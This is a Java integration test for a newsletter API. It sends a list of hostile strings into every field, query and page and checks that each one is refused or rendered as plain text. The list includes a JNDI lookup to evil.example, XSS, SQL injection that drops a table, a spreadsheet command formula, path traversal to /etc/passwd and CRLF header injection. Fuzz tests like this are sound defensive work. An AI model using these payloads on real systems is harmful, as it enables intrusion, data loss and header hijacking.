package dev.broadsheet;

import static dev.broadsheet.Api.editor;
import static io.restassured.RestAssured.given;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.empty;
import static org.hamcrest.Matchers.lessThan;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.net.URLEncoder;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.hamcrest.Matcher;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What an editor's script, or somebody with a stolen token, may put into any field: it is refused or comes out as text. */
@QuarkusTest
@QuarkusTestResource(TestDatabase.class)
class HostileApiTest {

    private static final List<String> FIELDS = List.of(
            "title",
            "fromName",
            "fromEmail",
            "replyTo",
            "description",
            "postalAddress",
            "language",
            "timeZone",
            "schedule",
            "siteUrl",
            "issueUrl",
            "archive",
            "welcomeMail",
            "rulesOff",
            "theme");

    @Inject
    Readers readers;

    static List<String> texts() {
        return List.of(
                "{newsletter.title}",
                "{#each x}{it}{/each}",
                "{inject:vertx}",
                "{config:['broadsheet.secret']}",
                "${7*7}",
                "{{7*7}}",
                "<%= 7*7 %>",
                "${jndi:ldap://evil.example/x}",
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "</title><svg onload=alert(1)>",
                "' onmouseover='alert(1)",
                "]]><script>alert(1)</script>",
                "javascript:alert(1)",
                "&#x3c;script&#x3e;",
                "'; drop table subscriber; --",
                "' or '1'='1",
                "%' --",
                "_%_\\",
                "{\"a\",\"b\"}",
                "=cmd|'/c calc'!A1",
                "../../etc/passwd",
                "x\r\nBcc: eve@example.org",
                "x\nSet-Cookie: a=1",
                "a\u0000b",
                "\u202Emoc.elpmaxe",
                "\u2028x\u2029",
                "\uD800",
                "\uD83D\uDE00".repeat(60),
                "n".repeat(100_000),
                "9223372036854775808",
                "-1",
                "null",
                " ");
    }

    @ParameterizedTest
    @MethodSource("texts")
    void anyText_inAnyFieldOfTheApi_isRefusedOrComesOutAsText(String text) {
        String slug = Api.newsletter();
        String newsletter = "/api/newsletters/" + slug;
        Map<String, Object> plain = Map.of("title", "T", "fromName", "F", "fromEmail", "f@example.org");
        for (String field : FIELDS) {
            Map<String, Object> body = new TreeMap<>(plain);
            body.put(field, field.equals("theme") ? Map.of("logoText", text, "footer", text, "accent", text) : text);
            json(body).put(newsletter).then().statusCode(below500());
        }
        for (String parameter : List.of("query", "state", "after", "limit", "section", "subscribedAfter")) {
            editor().queryParam(parameter, cut(text))
                    .get(newsletter + "/subscribers")
                    .then()
                    .statusCode(below500());
        }
        for (String path : List.of("/api/audit?newsletter=", "/api/campaigns?newsletter=", "/outbox/messages?to=")) {
            editor().urlEncodingEnabled(false).get(path + encoded(text)).then().statusCode(below500());
        }
        json(Map.of("email", Readers.address(), "name", text, "state", "ACTIVE", "confirmedAt", "2020-01-01T00:00:00Z"))
                .post(newsletter + "/subscribers")
                .then()
                .statusCode(below500());
        json(Map.of("email", text)).post("/api/suppressions").then().statusCode(below500());
        Response token = json(Map.of("name", text, "scopes", List.of("read"))).post("/api/tokens");
        assertThat(token.statusCode()).isLessThan(500);
        if (token.statusCode() == 201) {
            editor().delete("/api/tokens/" + token.path("id"));
        }
        editor().contentType("text/markdown")
                .body("Title: " + text.replaceAll("\\R", " ") + "\nDate: 2026-01-01\n\n" + text + "\n\nText\n")
                .put(newsletter + "/issues/one")
                .then()
                .statusCode(below500());
        editor().post(newsletter + "/issues/one/publish");

        readers.awaitSignUps(slug);
        editor().get(newsletter + "/subscribers?state=ACTIVE").then().body("items", empty()); // nobody assigns a state
        for (String page : List.of("", "/issues", "/issues/one", "/feed.atom", "/events.ics")) {
            checkPage(given().header("X-Forwarded-Host", "forged.example")
                    .header("Forwarded", "host=forged.example")
                    .get("/n/" + slug + page));
        }
        for (String page : List.of("/n/", "/confirm/", "/unsubscribe/", "/preferences/", "/my-data/erase/")) {
            checkPage(given().urlEncodingEnabled(false).get(page + encoded(text)));
        }
    }

    private static void checkPage(Response page) {
        assertThat(page.statusCode()).isLessThan(500);
        assertThat(page.headers().asList()).noneMatch(header -> header.getName().matches("(?i)set-cookie|bcc"));
        assertThat(page.asString()).doesNotContain("forged.example");
        if (page.contentType().startsWith("text/html")) {
            Document html = Jsoup.parse(page.asString());
            assertThat(html.select("script, svg, [onerror], [onload], [onmouseover], [href^=javascript]"))
                    .isEmpty();
        }
    }

    private static RequestSpecification json(Map<String, ?> body) {
        return editor().contentType("application/json").body(body);
    }

    private static Matcher<Integer> below500() {
        return lessThan(500);
    }

    private static String encoded(String text) {
        return URLEncoder.encode(cut(text), UTF_8).replace("+", "%20");
    }

    /** As much as an address takes. */
    private static String cut(String text) {
        return text.length() > 2_000 ? text.substring(0, 2_000) : text;
    }
}
